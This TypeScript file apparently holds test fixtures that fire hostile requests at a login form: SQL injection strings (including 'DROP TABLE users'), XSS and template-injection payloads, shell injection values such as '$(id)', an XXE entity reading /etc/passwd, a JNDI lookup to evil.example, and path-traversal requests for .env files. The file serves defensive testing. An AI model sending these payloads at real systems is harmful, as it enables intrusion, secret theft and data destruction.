/** Bytes as they go over the wire, for a form that a browser would never send. */
export interface Hostile {
  readonly what: string
  readonly method?: string
  /** Replaces the path of each form. */
  readonly path?: string
  /** As pairs: a name may come twice. */
  readonly headers?: readonly (readonly [string, string])[]
  readonly body?: string | Buffer
}

const encode = (text: string) => encodeURIComponent(text).replaceAll('%20', '+')
const form = (name: string, password: string) => `uname=${encode(name)}&pwd=${encode(password)}`

/** The same in the place of the name, and in that of the password of somebody who exists. */
function inEachField(what: string, payloads: readonly string[]): Hostile[] {
  return payloads.flatMap((payload) => [
    { what: `${what} as a name: ${show(payload)}`, body: form(payload, payload) },
    { what: `${what} as a password: ${show(payload)}`, body: form('Victim', payload) },
  ])
}

const show = (payload: string) => JSON.stringify(payload.length > 60 ? `${payload.slice(0, 57)}…` : payload)

const sql = [
  "'",
  "''",
  '"',
  '`',
  '\\',
  "\\'",
  ';',
  "' OR '1'='1",
  "' OR '1'='1' -- ",
  "' OR '1'='1' #",
  "' OR 1=1 LIMIT 1 -- ",
  '" OR ""="',
  '" OR 1=1 -- ',
  "') OR ('1'='1",
  "')) OR (('1'='1",
  "' OR TRUE -- ",
  "' || '1",
  "' && '1",
  "'='",
  "'-'",
  "'+'",
  "' OR name='Victim' -- ",
  "Victim' -- ",
  "Victim'#",
  "Victim'/*",
  "Victim' AND '1'='1",
  "' UNION SELECT 1,'Victim','x' -- ",
  "' UNION SELECT * FROM users -- ",
  "x'; DROP TABLE users; -- ",
  "x'; DELETE FROM users; -- ",
  "'; UPDATE users SET name='p' -- ",
  "' AND SLEEP(10) -- ",
  "' OR BENCHMARK(1e9,MD5(1)) -- ",
  "' INTO OUTFILE '/tmp/x' -- ",
  "' OR name LIKE '%",
  "' OR name REGEXP '.*",
  '%',
  '_',
  'Vict_m',
  'Vict%',
  "' PROCEDURE ANALYSE() -- ",
  '/*!50000 OR 1=1*/',
  "0' OR 0x31=0x31 -- ",
  '\u02bc OR 1=1 -- ',
  '\uff07 OR 1=1 -- ',
  "\xbf' OR 1=1 -- ",
  '1 OR 1=1',
  '0',
  'NULL',
  'true',
]

const html = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</p><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '<style>*{display:none}</style>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content=0>',
  '<form action="http://evil.example">',
  '<!--',
  '-->',
  ']]>',
  '&lt;script&gt;',
  '&#x3C;script&#x3E;',
  '&quot;&amp;&#39;',
  '<scr<script>ipt>alert(1)</script>',
  '\u003cscript\u003ealert(1)',
  '<math><mtext></mtext></math>',
]

const templates = [
  '{{ 7 * 7 }}',
  '{{~ 7 * 7 }}',
  '{{% throw 1 }}',
  '{{ process.env.RDS_PASSWORD }}',
  '{{ config }}',
  '{% raw %}',
  '<%= 7 * 7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker types.
  '${7*7}',
  '#{7*7}',
  '@layout.html',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '$scrypt$ln=15,r=8,p=3$AAAA$AAAA',
  '$scrypt$ln=30,r=8,p=3$AAAA$AAAA',
  '; cat /etc/passwd',
  '| id',
  '$(id)',
  '`id`',
  '%s%s%s%n',
  '() { :; }; id',
]

const characters = [
  '\0',
  'Victim\0',
  '\0Victim',
  'Vic\0tim',
  '\r\nSet-Cookie: planted=x',
  'a\r\n\r\n<html>',
  '\n',
  '\t',
  '\u001b[31mred',
  '\u202eevil',
  '\ufeffVictim',
  '\u200bVictim',
  '\ufffd',
  '\uffff',
  '\u{10ffff}',
  'ﷺ'.repeat(50),
  `Z${'\u0301'.repeat(49)}`,
  '𝕍𝕚𝕔𝕥𝕚𝕞',
  '👩‍👩‍👧‍👦',
  'İ',
  'ß',
]

const huge = ['A'.repeat(51), 'A'.repeat(257), "'".repeat(4000), '😀'.repeat(1000), '<'.repeat(15_000)]

const urlencoded = ['content-type', 'application/x-www-form-urlencoded'] as const
const typed = (type: string) => [['content-type', type]] as const
const json = '{"uname":"Victim","pwd":{"$ne":null}}'

const bodies: Hostile[] = [
  { what: 'no body' },
  { what: 'an empty body', body: '' },
  { what: 'no fields', body: '&&&===&&&' },
  { what: 'a name twice', body: 'uname=Victim&uname=x&pwd=x' },
  { what: 'a password twice', body: 'uname=Victim&pwd=x&pwd=a+password' },
  { what: 'a field as a list', body: 'uname[]=Victim&pwd[]=x' },
  { what: 'a field as an object', body: 'uname[$ne]=x&pwd[$ne]=x' },
  { what: 'a password as an object', body: 'uname=Victim&pwd[$gt]=' },
  { what: 'the prototype as a field', body: '__proto__[uname]=Victim&__proto__[pwd]=x&__proto__=1' },
  { what: 'the constructor as a field', body: 'constructor[prototype][uname]=Victim&constructor=x' },
  { what: 'fields of the page', body: 'uname=&pwd=&message=owned&status=200&title=owned&body=owned&it=x' },
  { what: 'a thousand fields', body: Array.from({ length: 1000 }, (_, n) => `f${n}=1`).join('&') },
  { what: 'more than the form takes', body: `uname=${'A'.repeat(17_000)}&pwd=x` },
  { what: 'a megabyte', body: `uname=${'A'.repeat(1_000_000)}&pwd=x` },
  { what: 'half a percent sign', body: 'uname=Victim%&pwd=%' },
  { what: 'no hexadecimal', body: 'uname=%zz&pwd=%u0041' },
  { what: 'an overlong slash', body: 'uname=%c0%af&pwd=%c0%af' },
  { what: 'an overlong quote', body: 'uname=Victim%c0%a7+OR+1%3d1&pwd=x' },
  { what: 'a lone surrogate', body: 'uname=%ed%a0%80&pwd=%ed%a0%80' },
  { what: 'half an emoji', body: 'uname=%f0%9f%98&pwd=%f0%9f' },
  { what: 'beyond Unicode', body: 'uname=%f4%90%80%80&pwd=%f8%88%80%80%80' },
  {
    what: 'raw bytes that are no UTF-8',
    body: Buffer.from([...Buffer.from('uname='), 0xff, 0xfe, 0x80, 0x26]),
  },
  { what: 'GBK’s quote', body: 'uname=%bf%27+OR+1%3d1+--+&pwd=x' },
  { what: 'a byte order mark', body: '\ufeffuname=Victim&pwd=x' },
  { what: 'raw null bytes', body: 'uname=Victim\0&pwd=\0' },
  { what: 'UTF-16', body: Buffer.from('uname=Victim&pwd=x', 'utf16le') },
  { what: 'JSON', headers: typed('application/json'), body: json },
  { what: 'JSON as a form', headers: [urlencoded], body: json },
  { what: 'JSON that is broken', headers: typed('application/json'), body: '{"uname":' },
  { what: 'text', headers: typed('text/plain'), body: 'uname=Victim&pwd=x' },
  {
    what: 'XML',
    headers: typed('application/xml'),
    body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  },
  {
    what: 'multipart',
    headers: typed('multipart/form-data; boundary=x'),
    body: '--x\r\nContent-Disposition: form-data; name="uname"\r\n\r\nVictim\r\n--x--',
  },
  { what: 'multipart without a boundary', headers: typed('multipart/form-data'), body: 'x' },
  { what: 'no type at all', headers: [], body: 'uname=Victim&pwd=x' },
  { what: 'a type that is none', headers: typed('%00'), body: 'uname=Victim&pwd=x' },
  { what: 'a very long type', headers: typed('a'.repeat(4000)), body: 'uname=Victim&pwd=x' },
  {
    what: 'another character set',
    headers: typed('application/x-www-form-urlencoded; charset=utf-16'),
    body: 'uname=Victim&pwd=x',
  },
  {
    what: 'a compressed body',
    headers: [urlencoded, ['content-encoding', 'gzip']],
    body: 'uname=Victim&pwd=x',
  },
]

const withHeaders = (what: string, ...headers: (readonly [string, string])[]): Hostile => ({
  what,
  headers: [urlencoded, ...headers],
  body: 'uname=Victim&pwd=x',
})

const requests: Hostile[] = [
  withHeaders('a method in a header', ['x-http-method-override', 'DELETE']),
  withHeaders('another address in a header', ['x-forwarded-for', "127.0.0.1' OR 1=1"]),
  withHeaders('another host in a header', ['x-forwarded-host', 'evil.example']),
  withHeaders('another path in a header', ['x-original-url', '/welcome'], ['x-rewrite-url', '/welcome']),
  withHeaders('an origin elsewhere', ['origin', 'http://evil.example']),
  withHeaders('an origin that is SQL', ['origin', "' OR 1=1 --"]),
  withHeaders('an origin that is null', ['origin', 'null']),
  withHeaders('a session that is SQL', ['cookie', "session=' OR '1'='1"]),
  withHeaders('a session that is a prototype', ['cookie', 'session=__proto__; __proto__=session']),
  withHeaders('a session that is not encoded', ['cookie', 'session=%zz%00; ;;; =; session']),
  withHeaders('a very long cookie', ['cookie', `session=${'A'.repeat(8000)}`]),
  withHeaders('two sessions', ['cookie', 'session=a; session=b'], ['cookie', 'session=c']),
  withHeaders('a script as a browser', ['user-agent', '<script>alert(1)</script>']),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker types.
  withHeaders('a lookup as a browser', ['user-agent', '${jndi:ldap://evil.example/x}']),
  withHeaders('a script as a referrer', ['referer', 'javascript:alert(1)']),
  withHeaders('headers without end', ['x-long', 'A'.repeat(20_000)]),
  withHeaders('a thousand languages', ['accept-language', 'en,'.repeat(1000)]),
  withHeaders('an upgrade', ['connection', 'upgrade'], ['upgrade', 'h2c']),
  withHeaders('an expectation', ['expect', '200-ok']),
  withHeaders('a range', ['range', 'bytes=0-18446744073709551615']),
  ...[
    '/../../etc/passwd',
    '/static/../app.js',
    '/static/..%2fapp.js',
    '/static/%2e%2e/.env',
    '/static/..\\app.js',
    '/static/style.css%00.html',
    '/.env',
    '/rds-ca.pem',
    '/node_modules/fastify/package.json',
    '/templates/layout.html',
    '/%00',
    '/%zz',
    '/%ff',
    '/%c0%ae%c0%ae/',
    '//evil.example/',
    '/\\evil.example/',
    '/login/../validate',
    '/validate/',
    '/VALIDATE',
    '/validate%20',
    '/validate;x=1',
    "/validate?uname=Victim&pwd=' OR 1=1",
    '/<script>alert(1)</script>',
    '/%3Cscript%3Ealert(1)%3C/script%3E',
    '/__proto__',
    '/constructor',
    `/${'a'.repeat(8000)}`,
    '/?__proto__[x]=1',
    '/welcome?username=Victim',
    '/health?x=<script>',
    '*',
  ].flatMap((path) => [
    { what: `the address ${show(path)}`, method: 'GET', path },
    { what: `a form sent to ${show(path)}`, path, body: 'uname=Victim&pwd=x' },
  ]),
  ...['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'HEAD', 'PROPFIND', 'NONSENSE'].map((method) => ({
    what: `the method ${method}`,
    method,
    body: method === 'HEAD' ? '' : 'uname=Victim&pwd=x',
  })),
]

export const hostileInputs: readonly Hostile[] = [
  ...inEachField('SQL', sql),
  ...inEachField('HTML', html),
  ...inEachField('a template', templates),
  ...inEachField('characters', characters),
  ...inEachField('too much', huge),
  ...bodies,
  ...requests,
]
